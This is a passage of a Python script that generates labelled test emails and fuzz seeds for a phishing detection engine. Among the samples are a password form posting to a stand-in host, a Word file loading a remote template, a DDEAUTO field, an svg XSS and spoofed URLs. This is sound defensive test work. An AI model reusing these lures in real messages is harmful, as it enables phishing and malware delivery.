    import json
    import shutil
    root = os.path.join(os.path.dirname(OUT), "..", "fuzz", "corpus")
    d = os.path.join(root, "detect_mime")
    os.makedirs(d, exist_ok=True)
    for f in ("en-02-phish-microsoft", "en-06-zip-exe", "en-09-docm-macro",
              "en-10-qr", "en-12-spoof-own", "ja-01-phish-amazon-iso2022jp",
              "ja-02-bec-sjis", "ja-06-delivery-sjis-nocharset"):
        shutil.copyfile(os.path.join(OUT, f + ".eml"),
                        os.path.join(d, f + ".eml"))
    d = os.path.join(root, "detect_graph")
    os.makedirs(d, exist_ok=True)
    msgs = [
        {"subject": "Unusual sign-in",
         "from": {"emailAddress": {"name": "Microsoft",
                                   "address": "x@evil.top"}},
         "replyTo": [{"emailAddress": {"address": "y@gmail.com"}}],
         "toRecipients": [{"emailAddress": {"address": "t@contoso.com"}}],
         "internetMessageHeaders": [{
             "name": "Authentication-Results",
             "value": "spf=fail smtp.mailfrom=contoso.com; dkim=none;"
                      "dmarc=fail action=oreject header.from=contoso.com;"
                      "compauth=fail reason=000"}],
         "body": {"contentType": "html",
                  "content": "<a href=\"https://micros0ft.com/x\">"
                             "https://microsoft.com</a> verify your account"},
         "hasAttachments": True,
         "attachments": [{
             "@odata.type": "#microsoft.graph.fileAttachment",
             "name": "a.html", "contentType": "text/html",
             "isInline": False,
             "contentBytes": base64.b64encode(
                 b"<form action='https://e.top/p.php'>"
                 b"<input type=password></form>").decode()}]},
        {"subject": "至急", "hasAttachments": False,
         "body": {"contentType": "text",
                  "content": "振込先の変更 https://example.com"}},
        {"hasAttachments": True, "attachments": [{
            "@odata.type": "#microsoft.graph.itemAttachment",
            "name": "fwd"}]},
    ]
    for i, m in enumerate(msgs):
        with open(os.path.join(d, "seed%d.json" % i), "w") as f:
            f.write(json.dumps(m, ensure_ascii=False))
    d = os.path.join(root, "detect_url")
    os.makedirs(d, exist_ok=True)
    urls = [
        "HTTPS://WWW.Example.COM/a?b=1#c", "http:\\\\evil.example.co.uk\\p",
        "http://3232235777/x", "http://0xC0.0xA8.1.1/",
        "https://www.paypal.com@evil.example.net/", "https://例え.jp/",
        "https://p\u0430ypal.com/",
        "see https://a.example.com/x, (https://b.example.com/y) "
        "詳しくはhttps://c.example.jp/を",
        "https://www.google.com/url?q=https%3A%2F%2Fevil.example.net%2F",
        "data:text/html;base64,PGh0bWw+", "hxxps://bad.example.com",
    ]
    for i, u in enumerate(urls):
        with open(os.path.join(d, "seed%d.txt" % i), "w") as f:
            f.write(u)
    d = os.path.join(root, "detect_html")
    os.makedirs(d, exist_ok=True)
    pages = [
        "\x00<html><a href=\"https://x.example.com\">https://paypal.com</a>"
        "<div style=\"display:none\">h</div></html>",
        "\x02<form action=https://e.top/p.php><input type=password name=p>"
        "</form><meta http-equiv=refresh content=\"0;url=https://r.ex\">",
        "\x01<script>var d=atob('QUJD');var b=new Blob([d]);"
        "URL.createObjectURL(b);location.href='https://x.example'</script>",
        "\x03<svg onload=alert(1)><foreignObject><a xlink:href=\"javascript:x"
        "\">x</a></foreignObject></svg>",
        "\x04<p style='font-size:0'>&#x41;&amp;&nbsp;&#99999999;<!-- c -->",
    ]
    for i, h in enumerate(pages):
        with open(os.path.join(d, "seed%d.html" % i), "wb") as f:
            f.write(h.encode())
    d = os.path.join(root, "detect_archive")
    os.makedirs(d, exist_ok=True)
    blobs = {
        "docm.zip": docm, "exe.zip": zipexe, "js.pdf": pdf, "qr.png": png,
        "nested.zip": zipbytes([("inner.zip", zipexe)]),
        "text.gz": gzip.compress(b"hello https://x.example.com", mtime=0),
        "page.html": b"<form><input type=password></form>",
        "lnk.bin": b"L\0\0\0\x01\x14\x02\0" + b"\0" * 68,
        # OOXML read part by part (relationships, main text) under the
        # message's inflate budget.
        "rels.docx": zipbytes([
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document>DDEAUTO x</w:document>"),
            ("word/_rels/settings.xml.rels", b"<Relationships>"
             b"<Relationship Type=\"http://schemas.openxmlformats.org/"
             b"officeDocument/2006/relationships/attachedTemplate\" "
             b"Target=\"http://198.51.100.7/t.dotm\" "
             b"TargetMode=\"External\"/></Relationships>"),
            ("word/_rels/document.xml.rels", b" " * 65536)]),
    }
    for name, data in blobs.items():
        with open(os.path.join(d, name), "wb") as f:
            f.write(data)


def sender_samples():
    """What the sender and HTML analyzers see: brands, display names,
    sender domains, text pushed out of view."""
    # A brand of the list's latest additions, named on free mail.
    write("en-40-brand-mercadopago-freemail.eml", headers(
        "Mercado Pago <alertas.mercadopago@hotmail.com>",
        "Alerta de seguranca: novo acesso a sua conta") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Detectamos um acesso de um novo dispositivo.</p>"
        '<p><a href="https://mp-acesso.example-verify.net/conta">'
        "Verificar agora</a></p></body></html>\n",
        "threat", "sender.display_brand", "sender.brand_freemail",
        "sender.brand_links_elsewhere")

    # The brand's own mail, from its own domain, stays clean.
    write("en-41-clean-mercadopago.eml", headers(
        "Mercado Pago <info@mercadopago.com.br>",
        "Seu comprovante de pagamento") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Ola, Taro.</p><p>Voce pagou R$ 52,90 a Loja "
        "Exemplo.</p><p><a href=\"https://www.mercadopago.com.br/activities"
        "\">Ver atividade</a></p></body></html>\n", "clean")

    # A brand whose name is a common word: with a service word it is a
    # claim; alone in a sentence-like name it is not.
    write("en-42-weak-brand-team.eml", headers(
        "Team Lido <news@staking-rewards.example.net>",
        "Discover the new platform") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Stake with us: https://staking-rewards.example.net/lido\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")


    # A brand's name misspelt in the display name, on free mail.
    write("en-43-brand-misspelt.eml", headers(
        '"Microsft Account - Support" <acct.support.desk@gmail.com>',
        "Unusual access to your account") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "We noticed a sign-in from a new device. If this was not you, "
        "review it here: https://review-access.example-desk.net/\n",
        "threat", "sender.display_brand", "sender.brand_freemail")

    # Ordinary words one letter from a brand's name are not one.
    write("en-44-clean-word-near-brand.eml", headers(
        '"Papal Visit Committee" <events@diocese.example.org>',
        "Timetable for Sunday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "The timetable for Sunday is on our site: "
        "https://diocese.example.org/visit\n", "clean")


    # A machine-made Microsoft 365 trial tenant as the sender.
    write("en-45-random-tenant.eml", headers(
        "Support <4169158863407@9980080836134.onmicrosoft.com>",
        "notification") +
        "Content-Type: text/plain; charset=utf-8\n\nHello.\n",
        "clean", "sender.random_domain")


    # A picture that links away, over a newsletter pushed far below the
    # screen by a class rule: what the filter reads is not what is seen.
    news = ("<p>This week in the harbour: the new ferry timetable starts "
            "on Monday, the fish market moves to the east quay while the "
            "roof is repaired, and the sailing club opens its winter "
            "courses for beginners and families.</p>") * 3
    write("en-46-offscreen-newsletter.eml", headers(
        '"Energy Savings" <offers@savings-deals.example.net>',
        "Cut your bills this winter") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><head><style>\n.belowView {\n  margin-top: 470500px; '
        "/* out of sight */\n}\n</style></head><body>"
        '<a href="https://savings-deals.example.net/go?id=7">'
        '<img src="https://savings-deals.example.net/banner.png"></a>'
        '<div class="belowView">' + news + "</div></body></html>\n",
        "potential", "html.hidden_text_stuffing")

    # A newsletter's own tall layout stays in view.
    write("en-47-clean-tall-layout.eml", headers(
        "Harbour News <news@harbour-news.example.org>",
        "This week in the harbour") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><head><style>.hero{height:640px;background:#036}"
        ".wrapper{min-height:100vh;padding:24px 0 48px}</style></head>"
        '<body><div class="wrapper"><div class="hero"><h1>Harbour News'
        "</h1></div>" + news + "</div></body></html>\n", "clean")


    # An address whose domain is no host name: nobody can write back,
    # and no real sender writes so; alone a potential threat.
    write("en-48-from-not-host.eml", headers(
        "Atendimento <aviso@naoresponder70129%atendimento.example>",
        "Aviso de pendencia") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Consulte sua pendencia no portal.\n",
        "potential", "sender.several_from")

    # A display name whose words carry invisible characters, as the
    # subject's and the text's would.
    cgj = "\u034f"
    name = " ".join(cgj.join(w) for w in ("Parcel", "Service", "Notice")) \
        + " Team"
    write("en-49-display-invisible.eml", headers(
        "%s <notice@parcel-notice.example.net>" %
        ew(None, "UTF-8", name.encode()), "Notice") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Details: https://parcel-notice.example.net/p\n",
        "potential", "content.obfuscated_text")


    # A brand's name and no address at all.
    write("en-50-brand-no-address.eml", headers(
        '"Facebook" <>', "Your page will be removed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Appeal here: https://page-appeal.example.net/form\n",
        "threat", "sender.display_brand", "sender.several_from")


    # A brand's name spelt out letter by letter; initials are not one.
    write("en-51-brand-spelt-out.eml", headers(
        '"D H L Express" <notice@parcel-desk.example.net>',
        "Shipment on hold") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Details: https://parcel-desk.example.net/hold\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("en-52-clean-initials.eml", headers(
        '"J. R. R. Tolkien Society" <news@tolkien-society.example.org>',
        "Reading group dates") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Dates: https://tolkien-society.example.org/reading\n", "clean")


    # A brand whose name is a common word, after "from" at the end of the
    # name, or with a service word in another language, is a claim; a
    # place called so is not.
    write("en-53-weak-brand-from.eml", headers(
        '"Hilan from Ledger" <ledger@wallet-upgrade.example.net>',
        "Upgrade your device") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Upgrade: https://wallet-upgrade.example.net/start\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("en-54-weak-brand-service-es.eml", headers(
        '"GLS | Seguimiento del paquete" <envios@paq-estado.example.net>',
        "Estado de su envio") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Consulte: https://paq-estado.example.net/estado\n",
        "threat", "sender.display_brand", "sender.brand_links_elsewhere")
    write("en-55-clean-from-place.eml", headers(
        '"Greetings from Apple Valley" <news@applevalley.example.org>',
        "Town fair on Saturday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Programme: https://applevalley.example.org/fair\n", "clean")


def sender2_samples():
    """Sender and URL signals that corroborate others: an organisation's
    name the address knows nothing of, sender domains under risky
    top-level domains or spelt out in one-letter labels, servers' generic
    names made of an IP, a brand's mail with borrowed pictures, a brand's
    name as a site on free hosting."""
    # An organisation's name (a word of organisations and a name) from an
    # address that holds none of its words: a low finding, to add up.
    write("en-80-org-name-elsewhere.eml", headers(
        "Harbour Mechanic Masters <promo@quickmail-relay.example.net>",
        "Your winter check-up") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Book your check-up: https://quickmail-relay.example.net/book\n",
        "clean", "sender.org_name_mismatch")

    # The same kind of name, written by the organisation's own address:
    # its initials, or a mailing service's address made of its name.
    write("en-81-clean-org-initials.eml", headers(
        "Royal Bank of Canada <alerts@rbc.example>",
        "Your statement is ready") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your statement is ready in online banking: "
        "https://www.rbc.example/statements\n", "clean")
    write("en-82-clean-org-via-mailer.eml", headers(
        "Riverside Garden Club <riversidegardenclub-gmail.com"
        "@shared1.mailer.example>", "Plant sale on Saturday") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Our plant sale is on Saturday: "
        "https://riverside-garden.example.org/sale\n", "clean")

    # A sender under a top-level domain much used by phishing, linking to
    # its own site there: one fact, weighed once (on the sender).
    write("en-83-sender-risky-tld.eml", headers(
        "Nerve Relief <offers@relief-daily.beauty>", "Feel better today") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Read more: https://relief-daily.beauty/article\n",
        "clean", "sender.risky_tld")

    # A sender domain spelt out in one-letter labels.
    write("en-84-spelt-out-domain.eml", headers(
        "Hearing Aid <news@h.e.a.r.i.n.g.k56.example-offers.net>",
        "Hear again") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "See the offer: https://example-offers.net/hear\n",
        "clean", "sender.random_domain")

    # A link to a rented server's generic name, made of its IP address;
    # from a brand's own domain, the address is forged.  An internal
    # server's name (a private address) is none (its name, mostly digits
    # and hyphens, looks machine-made: a low finding of its own).
    write("en-85-ip-host-brand.eml", headers(
        "Banco do Brasil <aviso@bb.com.br>", "Seus pontos") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Consulte seus pontos.</p>"
        '<p><a href="http://198.51.100.24.host.example-hosting.net/home/">'
        "Consultar</a></p></body></html>\n",
        "threat", "url.ip_host", "sender.brand_domain_hosting")
    write("en-86-clean-private-ip-host.eml", headers(
        "Build Server <ci@builds.example.org>", "Build 812 passed") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Build 812 passed. Logs: "
        "http://ip-10-0-3-17.builds.example.org/logs/812\n", "clean",
        "url.random_host")

    # A brand's own domain whose pictures come from a free image host and
    # nothing from the brand's sites; the brand relaying a user's comment
    # with such a picture still links to itself.
    write("en-87-brand-image-host.eml", headers(
        "Bradesco <aviso@bradesco.com.br>", "Comunicado") +
        "Content-Type: text/html; charset=utf-8\n\n"
        '<html><body><img src="https://i.imgur.com/Q9aBc1x.png">'
        '<p><a href="https://comunicado-cliente.example.net/">Ver</a>'
        "</p></body></html>\n",
        "potential", "sender.brand_domain_hosting", "url.image_hosting")
    write("en-88-clean-brand-relay-image.eml", headers(
        "octocat <notifications@github.com>",
        "Re: [example/widgets] Button is misaligned (#42)") +
        "Content-Type: text/html; charset=utf-8\n\n"
        "<html><body><p>Here is a screenshot:</p>"
        '<p><img src="https://i.imgur.com/Zx81Lmq.png"></p>'
        '<p><a href="https://github.com/example/widgets/issues/42">'
        "View it on GitHub</a></p></body></html>\n",
        "clean", "url.image_hosting")

    # A brand's name as the name of a site on free hosting.
    write("en-89-brand-free-hosting.eml", headers(
        "Notifications <notifications@forms-service.example>",
        "You have a new response") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Private access to the new platform: "
        "https://metamask-us.weebly.com/\n",
        "potential", "url.brand_in_host", "url.free_hosting")


def corroboration_samples():
    """Findings of different checks add a little when they agree; two of
    one check, or a weak one, do not."""
    # A malformed sender address (the sender) and a page on free hosting
    # (the links): 30 + 20, and 10 for the agreement: a threat.
    write("en-90-corroborated.eml", headers(
        "Accounts <accounts@ledger_notice.example>",
        "Statement available") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your statement: https://ledger-statement.weebly.com/\n",
        "threat", "sender.several_from", "url.free_hosting",
        "engine.corroborated")
    # The same name with replies going elsewhere: a weak sign (10) agrees
    # with nothing, and it stays a potential threat.
    write("en-91-weak-not-corroborating.eml", headers(
        "Netflix <billing@streamhelp-account.example>",
        "Notice about your membership",
        "Reply-To: desk@membership-help.example.org\n") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your membership notice is ready. Reply to this mail with "
        "questions.\n", "potential", "sender.display_brand",
        "sender.replyto_mismatch")
    # A stranger hands over the login of a wallet with a fortune in it
    # (the site written out so that it is no link); then, in Japanese.
    write("en-93-crypto-login.eml", headers(
        "Dana Whitfield <dana.w@harbor-freight-lines.example>",
        "Re: wallet details") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Hello, I found these details in a bag left at the airport. I know "
        "nothing about crypto, let us cash it out together.\n"
        "Website: vaultcoin . net\nCustomer ID: 48213377\n"
        "Password: qk7tr29x\nThe current balance is 64.2 BTC.\n",
        "threat", "content.crypto_login")
    write("ja-09-crypto-login-utf8.eml", headers(
        "=?UTF-8?B?%s?= <sato.k@tokai-butsuryu.example>" % base64.b64encode(
            "佐藤 健".encode()).decode(),
        "=?UTF-8?B?%s?=" % base64.b64encode(
            "ウォレットの件".encode()).decode()) +
        "Content-Type: text/plain; charset=utf-8\n"
        "Content-Transfer-Encoding: 8bit\n\n"
        "ウォレットに 12.5 BTC の残高があります。"
        "以下のログイン情報で確認してください。\n"
        "ID：73310284\nパスワード：mz83kd1q\n", "threat",
        "content.crypto_login")
    # A new account's first password, and an exchange's statement with
    # its balance: each half of the scam alone is ordinary mail.
    write("en-94-clean-first-password.eml", headers(
        "IT Service Desk <servicedesk@contoso.com>",
        "Your new account") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Welcome! Your account is ready.\nUser name: j.smith\n"
        "Temporary password: Wn4ps82q (you will be asked to change it "
        "when you first sign in).\n", "clean")
    write("en-95-clean-exchange-statement.eml", headers(
        "Kraken <noreply@kraken.com>", "Your monthly statement") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Your balance on 30 November: 0.42 BTC.\n"
        "Sign in to see your statement: https://www.kraken.com/sign-in\n",
        "clean")
    # Two signs of the links alone (free hosting behind a shortener) are
    # one kind of evidence: a potential threat.
    write("en-92-one-check-twice.eml", headers(
        "Mia Jones <mia.jones@quill-post.example>", "Photos") +
        "Content-Type: text/plain; charset=utf-8\n\n"
        "Photos of the trip: https://bit.ly/3pRt8Yv and "
        "https://trip-photos-mia.weebly.com/\n",
        "potential", "url.shortener", "url.free_hosting")


if __name__ == "__main__":
    main()
